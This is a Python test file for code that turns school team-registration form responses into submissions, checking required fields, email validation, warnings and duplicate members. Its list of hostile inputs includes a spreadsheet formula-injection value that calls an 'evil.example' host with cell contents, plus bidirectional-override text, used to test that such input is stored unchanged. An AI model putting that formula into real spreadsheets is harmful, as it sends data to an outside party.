"""Responses to Submissions and Problems: field mapping by title, what makes a response
unusable, what only warns, and hostile answers kept exactly as typed."""
from __future__ import annotations

from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from belmont_fields import Team, fields
from forms.model import FormSnapshot, Member, Question, Response, Submission
from forms.submissions import PeopleCap, cross_unit_warnings, to_submissions

FIELDS = ("facilitator_name", "facilitator_email", "team_name", "school", "topic", "members", "goal_type",
          "meeting_time", "training")

DOMAINS = ["belmont.k12.ma.us"]
SCHOOLS = ("Belmont High School", "Chenery Middle School", "Winn Brook Elementary")
GOALS = ("Professional Practice Goal", "Student Learning Goal")
TITLES = {
    "facilitator_name": "Facilitator name", "facilitator_email": "Facilitator email",
    "team_name": "PLT name", "school": "School", "topic": "PLT topic", "members": "PLT members",
    "goal_type": "Goal type", "meeting_time": "Meeting time", "training": "Facilitator training",
}
QUESTIONS = (
    Question("q-name", "i-name", "Facilitator name", "text", (), True),
    Question("q-email", "i-email", "Facilitator email", "text", (), True),
    Question("q-team", "i-team", "PLT name", "text", (), True),
    Question("q-school", "i-school", "School", "drop_down", SCHOOLS, True),
    Question("q-topic", "i-topic", "PLT topic", "paragraph", (), False),
    Question("q-members", "i-members", "PLT members", "paragraph", (), True),
    Question("q-goal", "i-goal", "Goal type", "radio", GOALS, False),
    Question("q-time", "i-time", "Meeting time", "text", (), False),
    Question("q-training", "i-training", "Facilitator training", "radio", ("Enrolled", "Exempt"), False),
)
QUESTION_ID = {f: f"q-{s}" for f, s in zip(FIELDS, ("name", "email", "team", "school", "topic", "members",
                                                   "goal", "time", "training"))}
T0 = datetime(2017, 10, 6, 15, 30, tzinfo=timezone.utc)


def answers(**fields: str) -> dict:
    """A complete, valid set of answers, with `fields` replacing or (None) removing some."""
    base = {
        "facilitator_name": "Janice Darias", "facilitator_email": "jdarias@belmont.k12.ma.us",
        "team_name": "Grade 4 Writers", "school": "Winn Brook Elementary",
        "topic": "Improving feedback on student writing", "goal_type": "Student Learning Goal",
        "members": "Ann Lee <alee@belmont.k12.ma.us>\nBob Ray <bray@belmont.k12.ma.us>",
        "meeting_time": "Wednesdays 3:30-5:30", "training": "Enrolled",
    }
    base.update(fields)
    return {QUESTION_ID[f]: (v,) for f, v in base.items() if v is not None}


def snapshot(*answer_sets: dict, questions=QUESTIONS, verified=False, emails=()) -> FormSnapshot:
    responses = tuple(
        Response(f"r{i}", T0, T0 + timedelta(minutes=i), emails[i] if i < len(emails) else None, a)
        for i, a in enumerate(answer_sets))
    return FormSnapshot("form-1", "PLT registration", questions, responses, verified, 2)


def run(snap: FormSnapshot, titles=TITLES, **kwargs):
    """Belmont's facilitator form read; each submission seen in that programme's words."""
    subs, problems = to_submissions(snap, fields(titles, goal_types=GOALS, training=("Enrolled", "Exempt")),
                                    allowed_domains=kwargs.pop("allowed_domains", DOMAINS),
                                    names={"facilitator_email": "facilitator_name"}, **kwargs)
    return [Team(sub) for sub in subs], problems


def test_complete_response_becomes_a_submission_with_every_field():
    subs, problems = run(snapshot(answers()))
    assert problems == []
    assert [s.submission for s in subs] == [Submission(
        response_id="r0", submitted_at=T0,
        values={"facilitator_name": "Janice Darias", "team_name": "Grade 4 Writers",
                "school": "Winn Brook Elementary", "topic": "Improving feedback on student writing",
                "goal_type": "Student Learning Goal", "meeting_time": "Wednesdays 3:30-5:30", "training": "Enrolled"},
        people={"facilitator_email": (Member("Janice Darias", "jdarias@belmont.k12.ma.us"),),
                "members": (Member("Ann Lee", "alee@belmont.k12.ma.us"), Member("Bob Ray", "bray@belmont.k12.ma.us"))})]


def test_submitted_at_is_the_last_submission_time_of_an_edited_response():
    snap = snapshot(answers())
    edited = Response("r0", T0, T0 + timedelta(days=3), None, snap.responses[0].answers)
    subs, _ = run(FormSnapshot("f", "t", QUESTIONS, (edited,), False, 2))
    assert subs[0].submitted_at == T0 + timedelta(days=3)


def test_titles_match_ignoring_case_and_surrounding_whitespace():
    titles = {field: f"  {title.upper()} \t" for field, title in TITLES.items()}
    subs, problems = run(snapshot(answers()), titles)
    assert problems == [] and subs[0].team_name == "Grade 4 Writers"


@pytest.mark.parametrize("field", ["facilitator_email", "team_name", "school", "members"])
def test_missing_required_answer_makes_the_response_unusable(field):
    subs, problems = run(snapshot(answers(**{field: None}), answers(team_name="Other team")))
    assert [s.response_id for s in subs] == ["r1"]
    assert [(p.response_id, p.field, p.severity) for p in problems] == [("r0", field, "error")]
    assert problems[0].reason.endswith("is missing")


def test_blank_required_answers_give_one_problem_per_field():
    subs, problems = run(snapshot(answers(team_name="   ", school="\n", members=" , ;")))
    assert subs == []
    assert sorted(p.field for p in problems) == ["members", "school", "team_name"]
    assert all(p.severity == "error" for p in problems)


def test_invalid_facilitator_email_makes_the_response_unusable():
    subs, problems = run(snapshot(answers(facilitator_email="jane.doe@")))
    assert subs == []
    assert [(p.field, p.value, p.severity) for p in problems] == [("facilitator_email", "jane.doe@", "error")]
    assert problems[0].reason.startswith("'jane.doe@' is not a valid email address")


def test_facilitator_email_written_with_a_name_is_accepted():
    subs, _ = run(snapshot(answers(facilitator_email="Janice Darias <JDarias@Belmont.k12.ma.us>")))
    assert subs[0].facilitator_email == "jdarias@belmont.k12.ma.us"


def test_verified_respondent_email_wins_over_the_email_question():
    snap = snapshot(answers(facilitator_email="typo@"), verified=True, emails=["Janice.D@belmont.k12.ma.us"])
    subs, problems = run(snap)
    assert problems == [] and subs[0].facilitator_email == "janice.d@belmont.k12.ma.us"


def test_form_collecting_verified_email_needs_no_email_question():
    questions = tuple(q for q in QUESTIONS if q.question_id != "q-email")
    snap = snapshot(answers(facilitator_email=None), questions=questions, verified=True,
                    emails=["jdarias@belmont.k12.ma.us"])
    subs, problems = run(snap)
    assert problems == [] and len(subs) == 1


def test_email_question_is_used_when_the_form_does_not_verify_emails():
    snap = snapshot(answers(), verified=False, emails=["someone.else@belmont.k12.ma.us"])
    subs, _ = run(snap)
    assert subs[0].facilitator_email == "jdarias@belmont.k12.ma.us"


def test_renamed_required_question_gives_one_form_problem_and_one_per_response():
    questions = tuple(q if q.question_id != "q-members" else
                      Question("q-members", "i-members", "Who is on your PLT?", "paragraph", (), True)
                      for q in QUESTIONS)
    subs, problems = run(snapshot(answers(), answers(), questions=questions))
    assert subs == []
    form_level = [p for p in problems if p.response_id == ""]
    assert len(form_level) == 1
    assert form_level[0].field == "members"
    assert form_level[0].reason == "the form has no question titled 'PLT members' (renamed or deleted?)"
    assert [(p.response_id, p.field) for p in problems if p.response_id] == [("r0", "members"), ("r1", "members")]


def test_deleted_optional_question_warns_once_and_responses_stay_usable():
    questions = tuple(q for q in QUESTIONS if q.question_id != "q-time")
    subs, problems = run(snapshot(answers(), answers(), questions=questions))
    assert len(subs) == 2 and all(s.meeting_time == "" for s in subs)
    assert [(p.response_id, p.field, p.severity) for p in problems] == [("", "meeting_time", "warning")]


def test_unconfigured_required_field_is_reported_for_the_form():
    titles = {k: v for k, v in TITLES.items() if k != "school"}
    subs, problems = run(snapshot(answers()), titles)
    assert subs == []
    assert problems[0].response_id == "" and problems[0].reason == "no question is configured for the school"


def test_school_and_goal_type_outside_the_choices_warn_and_are_kept_as_typed():
    subs, problems = run(snapshot(answers(school="Belmont Day School", goal_type="Both")))
    assert (subs[0].school, subs[0].goal_type) == ("Belmont Day School", "Both")
    assert [(p.field, p.severity) for p in problems] == [("school", "warning"), ("goal_type", "warning")]
    assert "'Both' is not one of the goal type choices" in problems[1].reason


def test_choice_typed_in_another_case_takes_the_configured_spelling():
    subs, problems = run(snapshot(answers(school="  winn brook  elementary")))
    assert problems == [] and subs[0].school == "Winn Brook Elementary"


def test_configured_school_list_overrides_the_question_choices():
    subs, problems = run(snapshot(answers()), sites=["Belmont High School"])
    assert len(subs) == 1 and [p.field for p in problems] == ["school"]


def test_facilitator_outside_allowed_domains_is_warned_but_usable():
    subs, problems = run(snapshot(answers(facilitator_email="janice@gmail.com")))
    assert len(subs) == 1
    assert [(p.field, p.severity) for p in problems] == [("facilitator_email", "warning")]


def test_members_left_empty_once_the_facilitator_is_taken_out_make_the_response_unusable():
    subs, problems = run(snapshot(answers(members="Janice <jdarias@belmont.k12.ma.us>")))
    assert subs == []
    assert [(p.field, p.severity) for p in problems] == [("members", "warning"), ("members", "error")]


def test_member_problems_warn_and_the_team_keeps_its_usable_members():
    text = "Ann Lee <alee@belmont.k12.ma.us>; alee@belmont.k12.ma.us, jane.doe@\nPat Quinn\nbob@gmail.com"
    subs, problems = run(snapshot(answers(members=text)), staff={"pat quinn": "pquinn@belmont.k12.ma.us"})
    assert subs[0].members == (Member("Ann Lee", "alee@belmont.k12.ma.us"),
                               Member("Pat Quinn", "pquinn@belmont.k12.ma.us"), Member("", "bob@gmail.com"))
    assert all(p.severity == "warning" for p in problems)
    assert sorted(p.value for p in problems) == ["alee@belmont.k12.ma.us", "bob@gmail.com",
                                                 "jane.doe@"]


CAP = PeopleCap(3, ("facilitator_email", "members"))


def test_a_response_over_the_people_cap_is_one_error_on_the_members_in_place_of_their_warnings():
    text = "\n".join(["Ann Lee <alee@belmont.k12.ma.us>", "Bob Ray <bray@belmont.k12.ma.us>", "eve@gmail.com",
                      "Ann Lee <alee@belmont.k12.ma.us>"])
    subs, problems = run(snapshot(answers(members=text)), cap=CAP)
    assert subs == []
    assert [(p.field, p.severity, p.value, p.reason) for p in problems] == [
        ("members", "error", text, "lists 3 people, making a team of 4; a team has at most 3 ([unit] max_people)")]


def test_a_response_at_the_people_cap_is_a_submission():
    subs, problems = run(snapshot(answers()), cap=CAP)
    assert [len(s.members) for s in subs] == [2] and problems == []


def test_checkbox_members_question_gives_one_member_per_ticked_choice():
    snap = snapshot(answers())
    ticked = dict(snap.responses[0].answers, **{"q-members": ("alee@belmont.k12.ma.us", "bray@belmont.k12.ma.us")})
    subs, _ = run(FormSnapshot("f", "t", QUESTIONS, (Response("r0", T0, T0, None, ticked),), False, 2))
    assert [m.email for m in subs[0].members] == ["alee@belmont.k12.ma.us", "bray@belmont.k12.ma.us"]


HOSTILE = [
    '=IMPORTXML("http://evil.example/?"&A1, "//a")',
    "+1-555-0100",
    "\u202eloohcS hgiH tnomleB\u202c",
    "فريق\u200fالقراءة",
    "Zero\u200bwidth\u200djoin\ufeff",
    "Math 👩🏽‍🏫 ✏️ Team",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_stored_exactly_as_typed(text):
    subs, problems = run(snapshot(answers(team_name=text, topic=text, meeting_time=text, facilitator_name=text)))
    assert problems == []
    got = subs[0]
    assert (got.team_name, got.topic, got.meeting_time, got.facilitator_name) == (text, text, text, text)


def test_topic_keeps_cr_lf_and_tabs_while_a_team_name_is_joined_onto_one_line():
    subs, problems = run(snapshot(answers(topic="Goal:\r\n\tRead more\nMeasure", team_name="Grade 4\r\nWriters")))
    assert subs[0].topic == "Goal:\r\n\tRead more\nMeasure"
    assert subs[0].team_name == "Grade 4 Writers"
    assert [(p.field, p.severity) for p in problems] == [("team_name", "warning")]


def test_nul_bytes_are_removed_with_a_warning_whose_value_shows_them():
    subs, problems = run(snapshot(answers(team_name="Grade\x00 4\x00", topic="a\x00b")))
    assert (subs[0].team_name, subs[0].topic) == ("Grade 4", "ab")
    assert [(p.field, p.value) for p in problems] == [("team_name", "Grade\\x00 4\\x00"), ("topic", "a\\x00b")]


def test_fifty_thousand_character_topic_is_kept_and_a_longer_one_cut_with_a_warning():
    subs, problems = run(snapshot(answers(topic="t" * 50_000), answers(topic="u" * 50_001)))
    assert [len(s.topic) for s in subs] == [50_000, 50_000]
    assert [(p.response_id, p.field, p.severity) for p in problems] == [("r1", "topic", "warning")]


@settings(max_examples=60, deadline=None)
@given(st.dictionaries(st.sampled_from(FIELDS), st.lists(st.text(max_size=300), max_size=3)))
def test_any_answers_at_all_give_submissions_or_problems_and_never_raise(raw):
    answer_set = {QUESTION_ID[field]: tuple(values) for field, values in raw.items()}
    subs, problems = run(snapshot(answer_set))
    assert len(subs) == 1 or any(p.severity == "error" and p.response_id == "r0" for p in problems)


def submission(rid: str, minute: int, facilitator: str, *members: str, team="T", school="Winn Brook Elementary",
               named: str = "") -> Submission:
    people = tuple(Member(named, m) if "@" in m else Member(m, None) for m in members)
    return Submission(rid, T0 + timedelta(minutes=minute), {"team_name": team, "school": school},
                      {"facilitator_email": (Member("", facilitator),), "members": people})


def cross_team_warnings(subs: list[Submission]):
    by_id = {sub.response_id: sub for sub in subs}
    return cross_unit_warnings(subs, lambda s: f"the team '{by_id[s.response_id].values['team_name']}' "
                                               f"({s.values['school']})", field="members", plural="teams")


def test_member_on_several_teams_warns_once_per_extra_team():
    subs = [submission("r3", 3, "c@b.org", "x@b.org", team="Third"),
            submission("r1", 1, "a@b.org", "x@b.org", "y@b.org", team="First"),
            submission("r2", 2, "b@b.org", "x@b.org", team="Second")]
    warnings = cross_team_warnings(subs)
    assert [(w.response_id, w.value, w.severity) for w in warnings] == [("r2", "x@b.org", "warning"),
                                                                        ("r3", "x@b.org", "warning")]
    assert "also on the team 'First'" in warnings[0].reason


def test_facilitator_of_one_team_listed_on_another_is_on_two_teams():
    warnings = cross_team_warnings([submission("r1", 1, "a@b.org", "m@b.org"),
                                    submission("r2", 2, "b@b.org", "a@b.org")])
    assert [(w.response_id, w.value) for w in warnings] == [("r2", "a@b.org")]


def test_members_without_email_and_separate_teams_raise_no_cross_team_warning():
    subs = [submission("r1", 1, "a@b.org", "m@b.org"), submission("r2", 2, "b@b.org", "n@b.org"),
            submission("r3", 0, "c@b.org", "Pat Quinn", team="T", school="S"),
            submission("r4", 0, "d@b.org", "Pat Quinn", team="U", school="S")]
    assert cross_team_warnings(subs) == []
